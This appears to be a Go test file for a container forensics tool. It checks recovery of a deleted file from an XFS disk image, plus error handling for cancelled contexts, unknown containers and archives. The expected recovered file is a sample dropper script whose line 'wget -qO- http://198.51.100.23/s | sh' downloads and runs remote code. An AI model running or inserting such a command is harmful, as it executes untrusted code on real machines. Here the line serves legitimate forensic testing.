package forensics

import (
	"context"
	"errors"
	"io"
	"path/filepath"
	"testing"

	"github.com/deadnode/deadnode/internal/testfix"
)

const recoverApp = "4b324cab25486a33822d1672700ac0cdad1d9d183089b7126b778bc3343c4007"

// TestRecover: the dropper deleted from the attacked container's upper
// dir of the GPT+XFS node comes back by name and content; the live view
// never shows it; a cancelled context stops the call; an archive has
// nothing to recover from.
func TestRecover(t *testing.T) {
	n, err := OpenPath(context.Background(), filepath.Join(testfix.DiskImages(t), "gpt-xfs.raw"), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer n.Close()
	recs, err := n.Recover(context.Background(), []string{recoverApp}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 {
		t.Fatalf("%d records: %+v", len(recs), recs)
	}
	r := recs[0]
	if *r.ContainerID != recoverApp || *r.Path != "/tmp/.dropper.sh" || *r.EvidencePath != "/"+testfix.NodeUpperDir+"/tmp/.dropper.sh" ||
		r.Size != 78 || r.RecoveredBytes != 78 || !r.Complete || r.Mode != "0644" || r.Type != "file" ||
		*r.SHA256 != "31a71d1b0f5563a15844b3014592d3202c5f271590d1d7b45be3c6db58cfefb7" || r.DeletedAt.IsZero() || r.Mtime.IsZero() {
		t.Errorf("%+v", r)
	}
	rd, err := r.Open()
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(rd)
	if string(b) != "#!/bin/sh\n# DELETED-MARK-A-71c0 dropper\nwget -qO- http://198.51.100.23/s | sh\n" {
		t.Errorf("recovered %q", b)
	}
	if _, err := n.Src.Lstat(testfix.NodeUpperDir + "/tmp/.dropper.sh"); err == nil {
		t.Error("the deleted file is visible in the live view")
	}
	all, err := n.Recover(context.Background(), nil, &RecoverOptions{All: true})
	if err != nil || len(all) != 1 || *all[0].EvidencePath != *r.EvidencePath {
		t.Errorf("--all: %+v %v", all, err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := n.Recover(ctx, nil, &RecoverOptions{All: true}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
	if _, err := n.Recover(context.Background(), nil, nil); err == nil {
		t.Error("no containers and not all: no error")
	}
	var nf *NotFoundError
	if _, err := n.Recover(context.Background(), []string{"nosuch"}, nil); !errors.As(err, &nf) {
		t.Errorf("unknown container: %v", err)
	}
	a, err := OpenPath(context.Background(), testfix.NodeArchive(t), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	if _, err := a.Recover(context.Background(), []string{recoverApp}, nil); !errors.Is(err, ErrNeedsDiskImage) {
		t.Errorf("archive: %v", err)
	}
}
